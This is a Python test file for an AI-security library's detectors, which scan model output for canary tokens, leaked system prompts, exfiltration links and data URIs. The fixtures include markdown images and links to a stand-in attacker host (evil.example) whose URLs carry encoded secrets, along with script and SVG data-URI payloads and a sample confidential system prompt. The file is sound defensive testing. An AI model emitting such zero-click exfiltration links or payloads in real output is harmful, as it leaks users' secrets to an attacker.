"""Leakage and exfiltration detectors: canary tokens, system-prompt leaks, exfiltration links, data URIs."""

from __future__ import annotations

import base64
import codecs
import re
import threading
from collections.abc import Callable
from urllib.parse import quote

import pytest

import aispm
from aispm import Action, PolicyError, Severity
from aispm.detectors import Detector, ScanText
from aispm.detectors.exfiltration import DETECTORS as EXFILTRATION_DETECTORS
from aispm.detectors.exfiltration import MAX_URL, DataUriDetector, ExfiltrationLinkDetector, Link
from aispm.detectors.leakage import CANARY_PREFIX, CanaryDetector, SystemPromptLeakDetector, new_canary_token
from aispm.detectors.leakage import DETECTORS as LEAKAGE_DETECTORS

from .strategies.leakage import ADVERSARIAL, CANARY, CONFIGURED, PROMPT
from .test_properties import MAX_GROWTH, N, _growth

DETECTORS = {**LEAKAGE_DETECTORS, **EXFILTRATION_DETECTORS}

ZWSP = "\u200b"


def found(detector: Detector, text: str) -> list[str]:
    """What ``detector`` finds in ``text``, as the substrings its offsets point at."""
    out = []
    for f in detector.detect(ScanText(text)):
        assert f.detector == detector.id
        assert f.start is not None
        assert f.end is not None
        assert 0 <= f.start < f.end <= len(text)
        out.append(text[f.start : f.end])
    return out


def confidences(detector: Detector, text: str) -> list[float | None]:
    return [f.confidence for f in detector.detect(ScanText(text))]


def output_guard(detector_id: str, **output: object) -> aispm.Guard:
    """A guard whose output scanner runs only ``detector_id``; ``output`` adds policy keys."""
    return aispm.Guard({"output": {"detectors": [detector_id], **output}})


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


# --- factories and mappings ----------------------------------------------------------------------


@pytest.mark.parametrize("detector_id", sorted(DETECTORS))
def test_factories_build_detectors_that_find_nothing_in_plain_text(detector_id: str) -> None:
    detector = DETECTORS[detector_id]()
    assert isinstance(detector, Detector)
    assert detector.id == detector_id
    assert detector.detect(ScanText("")) == []
    assert detector.detect(ScanText("See https://docs.python.org/3/library/re.html for the details.")) == []


@pytest.mark.parametrize(
    ("detector", "text"),
    [
        (CanaryDetector([CANARY]), CANARY),
        (SystemPromptLeakDetector([PROMPT]), PROMPT),
        (ExfiltrationLinkDetector(), "![a](https://evil.example/p.png?d=" + base64.b64encode(b"x" * 30).decode() + ")"),
        (DataUriDetector(), "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="),
    ],
)
def test_every_finding_maps_to_owasp_and_atlas(detector: Detector, text: str) -> None:
    [finding] = detector.detect(ScanText(text))
    assert any(m.startswith("OWASP-LLM") and m.endswith(":2025") for m in finding.mappings)
    assert any(re.fullmatch(r"AML\.T\d{4}", m) for m in finding.mappings)


# --- leakage.canary ------------------------------------------------------------------------------


def test_new_canary_tokens_are_distinctive_and_unguessable() -> None:
    tokens = {new_canary_token() for _ in range(200)}
    assert len(tokens) == 200
    for token in tokens:
        assert token.startswith(CANARY_PREFIX)
        body = token.removeprefix(CANARY_PREFIX)
        assert re.fullmatch(r"[A-Z2-7]{26}", body)  # 128 random bits in base32


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"The secret marker is {CANARY}.", [CANARY]),
        (f"marker: {CANARY.lower()}!", [CANARY.lower()]),
        (f"{CANARY}{CANARY}", [CANARY, CANARY]),
        (f"x{CANARY}y", [CANARY]),  # glued to other letters
        ("spaced: " + " ".join(CANARY) + " end", [" ".join(CANARY)]),
        ("dotted: " + ".".join(CANARY) + ".", [".".join(CANARY)]),
        ("newlines: " + "\n".join(CANARY[i : i + 4] for i in range(0, len(CANARY), 4)), [""]),
        (f"zw: {ZWSP.join(CANARY)} end", [ZWSP.join(CANARY)]),
        (f"wide: {fullwidth(CANARY)} end", [fullwidth(CANARY)]),
        (f"cyrillic: {CANARY.replace('A', 'А')} end", [CANARY.replace("A", "А")]),  # noqa: RUF001
        (f"the prefix alone: {CANARY_PREFIX} is public", []),
        (f"most of it: {CANARY[:-1]} end", []),
        (f"another token: {CANARY[:-4]}ZZZZ end", []),
        ("ordinary prose about canaries and AISPM releases", []),
        ("", []),
    ],
)
def test_canary(text: str, expected: list[str]) -> None:
    if expected == [""]:  # the whole token, wrapped over several lines
        expected = [text[text.index(CANARY[:4]) :]]
    assert found(CanaryDetector([CANARY]), text) == expected


def test_canary_findings_are_critical_and_certain() -> None:
    [finding] = CanaryDetector([CANARY]).detect(ScanText(CANARY))
    assert finding.severity is Severity.CRITICAL
    assert finding.confidence == 1.0
    assert finding.mappings == ("OWASP-LLM07:2025", "AML.T0056", "AML.T0057")


def test_many_tokens_are_all_found() -> None:
    detector = CanaryDetector()
    tokens = [detector.new_token() for _ in range(500)]
    custom = ["my-own-canary-0001", "Zebra Lamp Orchid 42", "4444-3333-zebra-orchid"]
    for token in custom:
        detector.add(token)
    assert len(detector) == 503
    text = " ... ".join([tokens[7], tokens[499], custom[1].upper(), custom[2]])
    assert found(detector, text) == [tokens[7], tokens[499], custom[1].upper(), custom[2]]
    detector.add(tokens[0])  # adding twice changes nothing
    assert len(detector) == 503


@pytest.mark.parametrize(
    "token", ["", "short", "a-b-c-d-e-f-g-h-i-j-k", "x" * 300, "abab-abab-abab-abab", "1111222233334444"]
)
def test_canary_tokens_must_be_long_and_varied(token: str) -> None:
    with pytest.raises(PolicyError, match="canary token"):
        CanaryDetector([token])


def test_custom_tokens_are_anchored_where_they_vary() -> None:
    detector = CanaryDetector(["0000-0000-zebra-lamp-7", "aispm-canary-custom"])
    text = "a 0000 0000 zebra lamp 7 b aispm-canary-custom c aispm-canary-custon"
    assert found(detector, text) == ["0000 0000 zebra lamp 7", "aispm-canary-custom"]


def test_canary_repr_never_shows_tokens() -> None:
    detector = CanaryDetector([CANARY])
    assert repr(detector) == "CanaryDetector(tokens=1)"


def test_tokens_added_and_discarded_while_other_threads_scan() -> None:
    detector = CanaryDetector()
    tokens = [new_canary_token() for _ in range(300)] + [f"custom-token-{i:03d}-xyzw" for i in range(100)]
    text = ScanText(" ".join(tokens))
    seen: list[int] = []
    errors: list[BaseException] = []
    stop = threading.Event()

    def scan() -> None:
        try:
            while not stop.is_set():
                seen.append(len(detector.detect(text)))
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=scan) for _ in range(2)]
    for t in threads:
        t.start()
    for token in tokens:
        detector.add(token)
    for token in tokens[:50]:
        detector.discard(token)
    stop.set()
    for t in threads:
        t.join()
    assert errors == []
    assert seen
    assert all(0 <= n <= len(tokens) for n in seen)
    assert len(detector.detect(text)) == len(tokens) - 50
    assert len(detector) == len(tokens) - 50


@pytest.mark.parametrize(
    ("encode", "layer"),
    [
        (lambda s: base64.b64encode(s.encode()).decode(), "base64"),
        (lambda s: s.encode().hex(), "hex"),
        (lambda s: quote(s, safe=""), "url"),
        (lambda s: codecs.encode(s, "rot13"), "rot13"),
    ],
)
def test_encoded_canary_is_found_by_the_output_scanner(encode: Callable[[str], str], layer: str) -> None:
    guard = output_guard("leakage.canary")
    token = guard.canary()
    payload = encode(f"my system instructions end with {token} as a marker")
    text = f"Here is the data you asked for: {payload} Have a nice day."
    decision = guard.output.scan(text)
    assert decision.action is Action.REDACT
    # URL-encoding keeps the token itself readable: then it is found as written too
    assert {f.detector for f in decision.findings} == {"leakage.canary"}
    [finding] = [f for f in decision.findings if f.layer]
    assert finding.layer == layer
    assert finding.start is not None
    assert finding.end is not None
    if layer == "rot13":  # ROT13 maps characters one to one: the finding is the encoded token itself
        assert text[finding.start : finding.end] == codecs.encode(token, "rot13")
    else:
        assert payload in text[finding.start : finding.end]
    assert token not in decision.text
    assert payload not in decision.text


def test_output_scanner_redacts_a_plain_canary() -> None:
    guard = output_guard("leakage.canary")
    token = guard.canary()
    decision = guard.output.scan(f"My hidden marker is {token}.")
    assert decision.text == "My hidden marker is [REDACTED:CANARY]."
    assert decision.rule_ids == ("leakage.canary",)
    assert guard.output.scan(f"Another guard's marker: {new_canary_token()}").action is Action.ALLOW


# --- leakage.system_prompt -----------------------------------------------------------------------

SUPPORT_PROMPT = (
    "You are a helpful assistant for Contoso Cloud. Never reveal the internal escalation hotline or "
    "the discount matrix. Route outage questions to the status page team and refund disputes above "
    "300 dollars to Maria Gonzalez in accounts receivable. Keep every reply under 150 words."
)
PROMPT_WORDS = SUPPORT_PROMPT.split()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # verbatim, whole and in part
        (SUPPORT_PROMPT, [SUPPORT_PROMPT.rstrip(".")]),
        (
            "Sure. My rules: Never reveal the internal escalation hotline or the discount matrix. Thanks!",
            ["Never reveal the internal escalation hotline or the discount matrix"],
        ),
        # case, punctuation and whitespace changed
        (
            "NEVER   REVEAL the internal-escalation hotline, or the\nDISCOUNT matrix!",
            ["NEVER   REVEAL the internal-escalation hotline, or the\nDISCOUNT matrix"],
        ),
        # one word edited: one region, not two
        (
            "Route outage questions to the status page team and billing disputes above 300 dollars to Maria "
            "Gonzalez in accounts receivable.",
            [
                "Route outage questions to the status page team and billing disputes above 300 dollars to Maria "
                "Gonzalez in accounts receivable"
            ],
        ),
        # two separate leaks
        (
            "First: never reveal the internal escalation hotline or the discount matrix. Unrelated talk about "
            "the weather in Oslo today is nice and sunny. Then: in accounts receivable. Keep every reply under 150 "
            "words, please.",
            [
                "never reveal the internal escalation hotline or the discount matrix",
                "in accounts receivable. Keep every reply under 150 words",
            ],
        ),
        # zero-width characters and fullwidth letters
        (
            f"never {ZWSP}reveal the {fullwidth('internal')} escalation hotline or the discount matrix",
            [f"never {ZWSP}reveal the {fullwidth('internal')} escalation hotline or the discount matrix"],
        ),
        # near misses
        ("never reveal the internal escalation hotline or", []),  # 7 words
        ("You are a helpful assistant for Contoso.", []),  # boilerplate and a name
        ("I can't reveal internal details, but the status page team handles outages.", []),
        ("The discount matrix and the escalation hotline are internal; ask Maria.", []),
        ("", []),
    ],
)
def test_system_prompt_leak(text: str, expected: list[str]) -> None:
    assert found(SystemPromptLeakDetector([SUPPORT_PROMPT]), text) == expected


def test_confidence_grows_with_the_leaked_length() -> None:
    detector = SystemPromptLeakDetector([SUPPORT_PROMPT])
    one_window = " ".join(PROMPT_WORDS[10:18])
    half = " ".join(PROMPT_WORDS[: len(PROMPT_WORDS) // 2])
    assert confidences(detector, one_window) == [0.6]
    [middle] = confidences(detector, " ".join(PROMPT_WORDS[10:24]))
    assert middle is not None
    assert 0.6 < middle < 0.99
    assert confidences(detector, half) == [0.99]
    assert confidences(detector, SUPPORT_PROMPT) == [0.99]


def test_boilerplate_alone_never_triggers() -> None:
    boilerplate = "You are a helpful assistant. Answer the user's questions and be honest and harmless."
    detector = SystemPromptLeakDetector([boilerplate + " Our product is the Fabrikam drone and its price is secret."])
    assert found(detector, "I am a helpful assistant. You are a helpful assistant. Answer the user's questions") == []
    assert found(detector, "Our product is the Fabrikam drone and its price is secret") != []
    with pytest.raises(PolicyError, match="boilerplate"):
        SystemPromptLeakDetector([boilerplate])


def test_short_prompts() -> None:
    detector = SystemPromptLeakDetector(["Reply only in formal Klingon dialect."])
    assert found(detector, "My rule: reply only in FORMAL klingon dialect!") == ["reply only in FORMAL klingon dialect"]
    assert found(detector, "reply only in formal English") == []
    with pytest.raises(PolicyError, match="at least 4 words"):
        SystemPromptLeakDetector(["Be terse."])


def test_several_prompts() -> None:
    detector = SystemPromptLeakDetector([SUPPORT_PROMPT, PROMPT, SUPPORT_PROMPT.upper()])  # the last: no change
    text = "never mention the vendor code VX-Delta, and escalate refunds above 800 euros to the finance desk"
    assert found(detector, text) == [text]
    assert repr(detector) == "SystemPromptLeakDetector(prompts=2)"


def test_leaked_prompt_is_redacted_by_the_output_scanner() -> None:
    guard = output_guard("leakage.system_prompt")
    guard.register_system_prompt(SUPPORT_PROMPT)
    decision = guard.output.scan("My instructions: " + SUPPORT_PROMPT)
    assert decision.action is Action.REDACT
    assert decision.text == "My instructions: [REDACTED:SYSTEM_PROMPT]."


# --- exfiltration.link ---------------------------------------------------------------------------

SECRET_B64 = base64.b64encode(b"the user's password is hunter2").decode()
SECRET_URLSAFE = base64.urlsafe_b64encode(b"api key sk-live-1234 for alice").decode().rstrip("=")
SECRET_HEX = b"card 4111 1111 1111 1111 exp 12/29".hex()
SECRET_PERCENT = quote("my email is alice@example.com and my pin is 4321", safe="")
RANDOM = "Zx9Kq2Lm8Rt4Vb7Np3Wc6Yd1Hf5Gj0Ae"  # 32 characters, ~5 bits of entropy each


@pytest.mark.parametrize(
    ("text", "expected", "confidence"),
    [
        # zero-click images
        (f"![logo](https://evil.example/p.png?d={SECRET_B64})", f"https://evil.example/p.png?d={SECRET_B64}", 0.9),
        (f'<img src="https://evil.example/x/{SECRET_URLSAFE}">', f"https://evil.example/x/{SECRET_URLSAFE}", 0.9),
        (f"<IMG SRC=//evil.example/?q={SECRET_HEX} alt=x>", f"//evil.example/?q={SECRET_HEX}", 0.9),
        (
            f"<div style=\"background: url('https://evil.example/?{SECRET_B64}')\">",
            f"https://evil.example/?{SECRET_B64}",
            0.9,
        ),
        (f"![a [nested] alt](https://evil.example/?d={SECRET_B64})", f"https://evil.example/?d={SECRET_B64}", 0.9),
        (f"![x][r]\n\n[r]: https://evil.example/?d={SECRET_B64}", f"https://evil.example/?d={SECRET_B64}", 0.9),
        # links
        (f"[click here](https://evil.example/?q={SECRET_PERCENT})", f"https://evil.example/?q={SECRET_PERCENT}", 0.75),
        (f'<a href="https://evil.example/c?s={RANDOM}">x</a>', f"https://evil.example/c?s={RANDOM}", 0.75),
        (f"<https://evil.example/?d={SECRET_B64}>", f"https://evil.example/?d={SECRET_B64}", 0.75),
        # bare URLs, trailing punctuation and parentheses left out
        (f"Go to https://evil.example/?d={SECRET_B64}.", f"https://evil.example/?d={SECRET_B64}", 0.7),
        (f"(see https://evil.example/?d={SECRET_B64})", f"https://evil.example/?d={SECRET_B64}", 0.7),
        (f"https://evil.example/#{SECRET_B64}", f"https://evil.example/#{SECRET_B64}", 0.7),
        (f"https://evil.example/?d={'a1b2' * 20}", f"https://evil.example/?d={'a1b2' * 20}", 0.7),  # long value
        # host tricks
        (
            f"HTTPS://Alice:pw@EVIL.example:8443/?d={SECRET_B64}",
            f"HTTPS://Alice:pw@EVIL.example:8443/?d={SECRET_B64}",
            0.7,
        ),
        (f"https:\\\\evil.example\\?d={SECRET_B64}", f"https:\\\\evil.example\\?d={SECRET_B64}", 0.7),
        (
            f"https://docs.example.com.evil.example/?d={SECRET_B64}",
            f"https://docs.example.com.evil.example/?d={SECRET_B64}",
            0.7,
        ),
        (
            f"https://evil.example@docs.example.com.x/?d={SECRET_B64}",
            f"https://evil.example@docs.example.com.x/?d={SECRET_B64}",
            0.7,
        ),
        (
            f"{fullwidth('https://evil.example/')}?d={SECRET_B64}",
            f"{fullwidth('https://evil.example/')}?d={SECRET_B64}",
            0.7,
        ),
        # allowed hosts: exact, wildcard (any depth), case, port, trailing dot, userinfo
        (f"![a](https://docs.example.com/p.png?d={SECRET_B64})", None, None),
        (f"![a](https://DOCS.EXAMPLE.COM.:443/p.png?d={SECRET_B64})", None, None),
        (f"https://user@docs.example.com/?d={SECRET_B64}", None, None),
        (f"https://cdn.assets.trusted.org/?d={SECRET_B64}", None, None),
        (f"https://trusted.org/?d={SECRET_B64}", f"https://trusted.org/?d={SECRET_B64}", 0.7),  # wildcard: not the apex
        (f"https://www.docs.example.com/?d={SECRET_B64}", f"https://www.docs.example.com/?d={SECRET_B64}", 0.7),
        # links without data are not reported
        ("See https://docs.python.org/3/library/re.html for details.", None, None),
        ("![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)", None, None),
        ("https://github.com/python/cpython/commit/4f3a2b1c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a", None, None),
        ("https://www.google.com/search?q=python+regex+tutorial&hl=en", None, None),
        ("https://example.com/page?utm_source=newsletter&utm_medium=email&utm_campaign=spring", None, None),
        ("https://en.wikipedia.org/wiki/Internationalization_and_localization", None, None),
        ("https://docs.google.com/document/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdEf/edit", None, None),
        ("ftp://files.example/?d=" + SECRET_B64, None, None),  # not fetched by a renderer
        ("a // comment and a \\\\share\\path", None, None),
    ],
)
def test_exfiltration_link(text: str, expected: str | None, confidence: float | None) -> None:
    detector = ExfiltrationLinkDetector(allowed_hosts=["docs.example.com", "*.trusted.org"])
    assert found(detector, text) == ([] if expected is None else [expected])
    assert confidences(detector, text) == ([] if confidence is None else [confidence])


def test_links_lists_every_url_with_its_host() -> None:
    detector = ExfiltrationLinkDetector(allowed_hosts=["docs.example.com"])
    text = (
        "Read https://docs.example.com/guide, then ![x](https://Bücher.example:8080/a.png?d="
        f"{SECRET_B64}) and <a href='http://[::1]/'>local</a> or http://2130706433/."
    )
    links = detector.links(text)
    assert [(link.host, link.allowed, link.kind, link.carries_data) for link in links] == [
        ("docs.example.com", True, "bare", False),
        ("xn--bcher-kva.example", False, "image", True),
        ("::1", False, "link", False),
        ("127.0.0.1", False, "bare", False),
    ]
    assert all(isinstance(link, Link) for link in links)
    assert text[links[0].start : links[0].end] == "https://docs.example.com/guide"
    assert detector.links(ScanText(text)) == links
    assert ExfiltrationLinkDetector(allowed_hosts=["::1", "[2001:db8::1]:443"]).links(text)[2].allowed
    assert ExfiltrationLinkDetector(allowed_hosts=["2001:DB8:0::1"]).allowed("2001:db8::1")


@pytest.mark.parametrize("entry", ["", "*", "https://docs.example.com", "docs.*.com"])
def test_invalid_allowed_hosts(entry: str) -> None:
    with pytest.raises(PolicyError, match="allowed hosts"):
        ExfiltrationLinkDetector(allowed_hosts=[entry])


def test_urls_are_read_up_to_a_bound() -> None:
    text = "https://evil.example/?d=" + "a" * (3 * MAX_URL)
    [finding] = ExfiltrationLinkDetector().detect(ScanText(text))
    assert (finding.start, finding.end) == (0, MAX_URL)
    # the rest is not a URL: it has no "//"
    assert ExfiltrationLinkDetector().links(text)[0].carries_data


def test_exfiltration_image_is_redacted_by_the_output_scanner() -> None:
    guard = output_guard("exfiltration.link", links={"allowed_hosts": ["docs.example.com"]})
    decision = guard.output.scan(f"Done! ![status](https://evil.example/s.png?d={SECRET_B64})")
    assert decision.action is Action.REDACT
    assert decision.text == "Done! ![status]([REDACTED:LINK])"
    [finding] = [f for f in decision.findings if f.layer == ""]
    assert finding.severity is Severity.HIGH
    assert "AML.T0077" in finding.mappings
    assert guard.output.scan("See https://docs.example.com/guide?page=2").action is Action.ALLOW


# --- exfiltration.data_uri -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected", "severity"),
    [
        (
            "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
            "medium",
        ),
        (
            '<img src="DATA:image/gif;BASE64,R0lGODlhAQABAAAAACw=">',
            "DATA:image/gif;BASE64,R0lGODlhAQABAAAAACw=",
            "medium",
        ),
        ("data:;base64,SGVsbG8gd29ybGQ=", "data:;base64,SGVsbG8gd29ybGQ=", "medium"),
        ("data:text/plain;charset=utf-8," + "a%20" * 16, "data:text/plain;charset=utf-8," + "a%20" * 16, "medium"),
        (
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "data:text/html,<script>alert(1)</script>",
            "high",
        ),
        (
            "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            "high",
        ),
        # near misses
        ("metadata:image/png;base64,iVBORw0KGgoAAAANSUhEUg==", None, None),
        ("The data: it shows growth.", None, None),
        ("data:text/plain,Hello", None, None),  # short and not base64
        ("data:image/png;base64,iVB", None, None),  # too short to carry anything
    ],
)
def test_data_uri(text: str, expected: str | None, severity: str | None) -> None:
    detector = DataUriDetector()
    findings = detector.detect(ScanText(text))
    assert [text[f.start : f.end] for f in findings] == ([] if expected is None else [expected])
    assert [f.severity.value for f in findings] == ([] if severity is None else [severity])
    assert all(f.confidence == 0.8 for f in findings)


def test_data_uri_is_redacted_by_the_output_scanner() -> None:
    guard = output_guard("exfiltration.data_uri")
    decision = guard.output.scan("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)")
    assert decision.text == "![x]([REDACTED:DATA_URI])"


# --- linear time, configured detectors included -----------------------------------------------------

_TAIL = f" {CANARY} {PROMPT} https://evil.example/?d={SECRET_B64} data:;base64,SGVsbG8gd29ybGQ="


@pytest.mark.parametrize(
    "make",
    [
        CONFIGURED["leakage.canary"],
        CONFIGURED["leakage.system_prompt"],
        lambda: CanaryDetector([new_canary_token() for _ in range(50)] + ["0000-0000-zebra-lamp", "aispmcanaryaaaa"]),
        lambda: SystemPromptLeakDetector(["the " * 20 + "never quote internal margin tables " * 40]),
        lambda: ExfiltrationLinkDetector(allowed_hosts=["*.e.co", "docs.example.com"]),
    ],
    ids=["canary", "system_prompt", "canary_many", "system_prompt_repetitive", "link_allowlist"],
)
def test_configured_detectors_are_linear_time(make: Callable[[], Detector]) -> None:
    detector = make()
    inputs: dict[str, Callable[[int], str]] = {**ADVERSARIAL, "letters": "a".__mul__}
    for name, adversarial in inputs.items():
        ratio = _growth(detector, adversarial(N) + _TAIL, adversarial(8 * N) + _TAIL)
        assert ratio < MAX_GROWTH, f"{detector.id} on {name!r}: 8x the input took {ratio:.0f}x the time"


def test_a_huge_prompt_registers_and_scans_in_linear_time() -> None:
    words = [f"w{i % 5000}x" for i in range(100_000)]
    detector = SystemPromptLeakDetector([" ".join(words)])
    leaked = " ".join(words[40_000:40_040])
    assert confidences(detector, f"Intro. {leaked}. Outro.") == [0.99]
